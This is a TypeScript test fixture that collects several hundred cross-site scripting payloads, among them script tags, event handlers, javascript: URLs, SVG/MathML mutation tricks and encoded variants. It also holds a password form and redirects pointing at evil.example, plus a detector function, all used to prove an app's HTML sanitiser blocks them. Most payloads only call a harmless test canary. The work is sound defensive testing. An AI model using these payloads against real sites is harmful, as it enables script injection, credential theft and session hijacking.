/**
 * Attack payloads for every screen that shows server HTML (announcements, inbox, promotions, help):
 * a test renders each one through the screen and then proves that nothing ran and nothing dangerous
 * is left in the page. Every payload that could run script calls the global canary
 * `__attackCanary()`; `armAttackCanary()` installs it and counts its calls.
 */

/** The global function every payload calls if it ever runs. */
export const ATTACK_CANARY = '__attackCanary';

const RUN = `${ATTACK_CANARY}()`;

/** Ways to write `javascript:`/`vbscript:`/`data:` URLs that browsers still follow. */
const DANGEROUS_URLS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java&#x09;script:${RUN}`,
  `java&#x0A;script:${RUN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html;base64,PHNjcmlwdD5fX2F0dGFja0NhbmFyeSgpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
];

/** Every element and attribute pair that takes a URL. */
const URL_SLOTS: readonly (readonly [string, string])[] = [
  ['a', 'href'],
  ['area', 'href'],
  ['img', 'src'],
  ['img', 'srcset'],
  ['iframe', 'src'],
  ['frame', 'src'],
  ['embed', 'src'],
  ['object', 'data'],
  ['form', 'action'],
  ['button', 'formaction'],
  ['input type="image"', 'src'],
  ['video', 'poster'],
  ['video', 'src'],
  ['audio', 'src'],
  ['source', 'src'],
  ['track', 'src'],
  ['link rel="stylesheet"', 'href'],
  ['base', 'href'],
  ['blockquote', 'cite'],
  ['q', 'cite'],
  ['del', 'cite'],
  ['ins', 'cite'],
  ['a', 'xlink:href'],
  ['a', 'ping'],
  ['table', 'background'],
  ['body', 'background'],
  ['img', 'lowsrc'],
  ['img', 'dynsrc'],
  ['img', 'longdesc'],
  ['meta http-equiv="refresh"', 'content'],
];

const closing = (tag: string) => tag.split(' ')[0];

/** Each URL slot with each way to write a dangerous URL. */
const urlPayloads = URL_SLOTS.flatMap(([tag, attribute]) =>
  DANGEROUS_URLS.map((url) => {
    const name = closing(tag);
    const value = attribute === 'content' ? `0;url=${url}` : url;
    return `<${tag} ${attribute}="${value}">x</${name}>`;
  }),
);

/** Event handlers on elements that fire them by themselves (load, error, focus, animation, toggle). */
const HANDLER_PAYLOADS = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x OnErRoR=${RUN}>`,
  `<img src=x onerror=&#x5F;&#x5F;attackCanary()>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror\n=${RUN}>`,
  `<img src="x` + '`' + `onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<div tabindex=1 autofocus onfocus=${RUN}>x</div>`,
  `<a id=x tabindex=1 onfocus=${RUN}></a>`,
  `<details open ontoggle=${RUN}>`,
  `<details/open/ontoggle=${RUN}>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<p style="animation-name:x" onanimationstart=${RUN}>x</p>`,
  `<p style="transition:color 1s" ontransitionend=${RUN}>x</p>`,
  `<object data=x onerror=${RUN}></object>`,
  `<iframe onload=${RUN}></iframe>`,
  `<frameset onload=${RUN}>`,
  `<table background=x onerror=${RUN}>`,
  `<p onmouseover=${RUN}>hover</p>`,
  `<p onclick=${RUN}>tap</p>`,
  `<a onclick=${RUN} href="#">tap</a>`,
  `<button onclick=${RUN}>tap</button>`,
  `<div onpointerenter=${RUN}>x</div>`,
  `<div onwheel=${RUN}>x</div>`,
  `<div oncopy=${RUN}>x</div>`,
  `<div onbeforeinput=${RUN} contenteditable>x</div>`,
  `<form onsubmit=${RUN}><button>go</button></form>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<script src=x onerror=${RUN}></script>`,
  `<img src=x:x onerror=eval(atob("X19hdHRhY2tDYW5hcnkoKQ=="))>`,
  `<img src=x onerror=window['__attack'+'Canary']()>`,
  `<img src=x onerror=top[\`__attackCanary\`]()>`,
];

/** Script elements, plain and disguised. */
const SCRIPT_PAYLOADS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script type="module">${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script>${RUN}`,
  `<script\n>${RUN}</script>`,
  `<p>safe</p><script>${RUN}</script><p>safe</p>`,
  `<script>/*</script><img src=x onerror=${RUN}>*/</script>`,
  `<template><script>${RUN}</script></template>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noembed><img src=x onerror=${RUN}></noembed>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<textarea><img src=x onerror=${RUN}></textarea>`,
  `<title><img src=x onerror=${RUN}></title>`,
  `<iframe><img src=x onerror=${RUN}></iframe>`,
  `<noframes><img src=x onerror=${RUN}></noframes>`,
];

/** SVG and MathML, whose foreign parsing feeds most mutation XSS. */
const FOREIGN_PAYLOADS = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><script xlink:href="data:,${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=0 y=20>x</text></a></svg>`,
  `<svg><a href="javascript:${RUN}"><text x=0 y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><animate attributeName=href to="javascript:${RUN}"/></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<svg><title><img src=x onerror=${RUN}></title></svg>`,
  `<svg><desc><img src=x onerror=${RUN}></desc></svg>`,
  `<svg><image href=x onerror=${RUN} /></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${RUN}&gt;">`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${RUN}>">`,
  `<svg><p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${RUN}>"></style></h1>`,
];

/** Mutation XSS classics: markup that changes meaning when the sanitised tree is serialised. */
const MUTATION_PAYLOADS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<noscript><style></noscript><img src=x onerror=${RUN}>`,
  `<a href="</a><img src=x onerror=${RUN}>">x</a>`,
  `<p title="</p><img src=x onerror=${RUN}>">x</p>`,
  `<img alt="<x" title="/><img src=x onerror=${RUN}>">`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<table><td><img src=x onerror=${RUN}></table>`,
  `<table><style><img src=x onerror=${RUN}></style></table>`,
  `<select><style></select><img src=x onerror=${RUN}></style>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<div id="x"></div><div id="x" onclick=${RUN}></div>`,
  `<a id=__attackCanary href="javascript:${RUN}">clobber</a>`,
  `<form id=location><input name=href value="javascript:${RUN}"></form>`,
  `<img name=getElementById src=x onerror=${RUN}>`,
  `<div style="x:expression(${RUN})">x</div>`,
  `<x onclick=${RUN}>custom</x>`,
  `<custom-element onclick=${RUN}>custom</custom-element>`,
  `<a is="x" onclick=${RUN}>x</a>`,
  `<div data-x="" onclick=${RUN}>x</div>`,
  `<img src="x" onerror="${RUN}" <`,
  `<img src=x onerror=${RUN}//`,
  `<img src=x onerror=${RUN} ` + '\u0000' + `>`,
  `<im\u0000g src=x onerror=${RUN}>`,
  `<img\u000csrc=x\u000conerror=${RUN}>`,
  `<img src=x one\u0000rror=${RUN}>`,
];

/** Style-based tricks: URLs and script in CSS, and covering the page. */
const STYLE_PAYLOADS = [
  `<style>@import "javascript:${RUN}";</style>`,
  `<style>*{background:url("javascript:${RUN}")}</style>`,
  `<style>*{display:none}</style><p>x</p>`,
  `<style>body{behavior:url(x.htc)}</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div style="background-image:url('javascript:${RUN}')">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<div style="behavior:url(x.htc)">x</div>`,
  `<div style="-moz-binding:url(x.xml#x)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff">cover</div>`,
  `<div style="position:absolute;top:0;left:0;width:100vw;height:100vh">cover</div>`,
  `<div style="color:red;background:url(javascript:${RUN})">x</div>`,
  `<div style="b\\61 ckground:url(javascript:${RUN})">x</div>`,
  `<div style="background:u\\72 l(javascript:${RUN})">x</div>`,
  `<div style="background:/**/url(javascript:${RUN})">x</div>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${RUN})}">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<svg><style>*{fill:url(javascript:${RUN})}</style></svg>`,
];

/** Embedded documents, forms, frames and page-level elements. */
const DOCUMENT_PAYLOADS = [
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<iframe sandbox="allow-scripts" srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<frameset><frame src="javascript:${RUN}"></frameset>`,
  `<object type="text/html" data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<applet code="x"></applet>`,
  `<portal src="https://evil.example/"></portal>`,
  `<form action="https://evil.example/"><input name="password" type="password"><button>Go</button></form>`,
  `<form><button formaction="javascript:${RUN}">Go</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:${RUN}">Go</button>`,
  `<input type="submit" formaction="javascript:${RUN}">`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<meta http-equiv="set-cookie" content="session=stolen">`,
  `<meta charset="x-imap4-modified-utf7">`,
  `<base href="https://evil.example/">`,
  `<base href="javascript:${RUN}//">`,
  `<a href="https://example.com/" target="_self">same tab</a>`,
  `<a href="https://example.com/" target="_top">top</a>`,
  `<a href="https://example.com/" rel="opener">opener</a>`,
  `<html><head><script>${RUN}</script></head><body></body></html>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
];

/** Encoded variants: entities, escapes and double encoding that a careless decoder would undo. */
const ENCODED_PAYLOADS = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3C;img src=x onerror=${RUN}&#x3E;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cscript%253E${RUN}%253C/script%253E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<a href="%6A%61%76%61%73%63%72%69%70%74:${RUN}">x</a>`,
  `<a href="javascript%3A${RUN}">x</a>`,
  `<a href="&#x26;#x6A;avascript:${RUN}">x</a>`,
  `<img src="x" onerror="&#x5F;&#x5F;attackCanary&#x28;&#x29;">`,
  `<img src=x onerror="&#95;&#95;attackCanary&#40;&#41;">`,
  `<img src=x onerror="\\u005f\\u005fattackCanary()">`,
  `<img src=x onerror="eval('\\x5f\\x5fattackCanary()')">`,
  `<img src=x onerror="eval(String.fromCharCode(95,95,97,116,116,97,99,107,67,97,110,97,114,121,40,41))">`,
  `<a href="jav&NewLine;ascript&colon;${RUN}">x</a>`,
  `<a href="jav&Tab;ascript&colon;${RUN}">x</a>`,
  `<a href="&Tab;javascript:${RUN}">x</a>`,
  `<a href="\u0001javascript:${RUN}">x</a>`,
  `<a href="\u2028javascript:${RUN}">x</a>`,
  `<a href="ja\u00advascript:${RUN}">x</a>`,
  `<a href=javascript&#58${RUN}>x</a>`,
  `<a href="javascript&#0000058${RUN}">x</a>`,
  `<a href='javascript:${RUN}'>x</a>`,
  `<a href=\`javascript:${RUN}\`>x</a>`,
  `<a href="javas<!-- -->cript:${RUN}">x</a>`,
  `<img src="jav ascript:${RUN}">`,
];

/**
 * The corpus: at least 300 payloads, each a piece of HTML a server might send as an announcement's,
 * an inbox message's or a promotion's content.
 */
export const ATTACK_PAYLOADS: readonly string[] = [
  ...SCRIPT_PAYLOADS,
  ...HANDLER_PAYLOADS,
  ...urlPayloads,
  ...FOREIGN_PAYLOADS,
  ...MUTATION_PAYLOADS,
  ...STYLE_PAYLOADS,
  ...DOCUMENT_PAYLOADS,
  ...ENCODED_PAYLOADS,
];

/** Elements that must never reach the page from server HTML. */
const FORBIDDEN_ELEMENTS = new Set([
  'script',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'portal',
  'form',
  'input',
  'button',
  'select',
  'textarea',
  'style',
  'link',
  'meta',
  'base',
  'svg',
  'math',
  'template',
]);

const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'srcset',
  'action',
  'formaction',
  'data',
  'poster',
  'cite',
  'background',
  'lowsrc',
  'dynsrc',
  'longdesc',
  'ping',
  'xlink:href',
  'content',
]);

/** A URL the browser would run or render as a document: javascript:, vbscript: or data:. */
function isDangerousUrl(value: string): boolean {
  // Browsers skip whitespace and control characters inside a scheme, so the check does too.
  // eslint-disable-next-line no-control-regex -- matching control characters is the point
  const squeezed = value.replace(/[\s\u0000-\u001f\u00ad\u2028\u2029]/g, '').toLowerCase();
  return /(^|[,;=])(javascript|vbscript|data):/.test(squeezed);
}

/**
 * What in a rendered subtree could run script, leave the page or cover it: forbidden elements,
 * `on*` attributes, dangerous URLs in any URL attribute, `srcdoc`, inline styles that load a URL or
 * position the element. Empty when the subtree is safe.
 */
export function dangerIn(root: ParentNode): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const name = element.localName;
    if (FORBIDDEN_ELEMENTS.has(name)) found.push(`<${name}>`);
    for (const { name: attribute, value } of Array.from(element.attributes)) {
      const lower = attribute.toLowerCase();
      if (lower.startsWith('on')) found.push(`<${name} ${lower}>`);
      if (lower === 'srcdoc') found.push(`<${name} srcdoc>`);
      if (URL_ATTRIBUTES.has(lower) && isDangerousUrl(value)) {
        found.push(`<${name} ${lower}="${value}">`);
      }
      if (lower === 'style' && /url\(|expression\(|position|behavior|binding/i.test(value)) {
        found.push(`<${name} style="${value}">`);
      }
    }
  }
  return found;
}

/**
 * Installs the global canary the payloads call; `calls()` says how often it ran, `disarm()`
 * removes it. A test arms it before rendering and expects no call after.
 */
export function armAttackCanary(): { calls: () => number; disarm: () => void } {
  let count = 0;
  const target = globalThis as Record<string, unknown>;
  target[ATTACK_CANARY] = () => {
    count += 1;
  };
  return {
    calls: () => count,
    disarm: () => {
      delete target[ATTACK_CANARY];
    },
  };
}
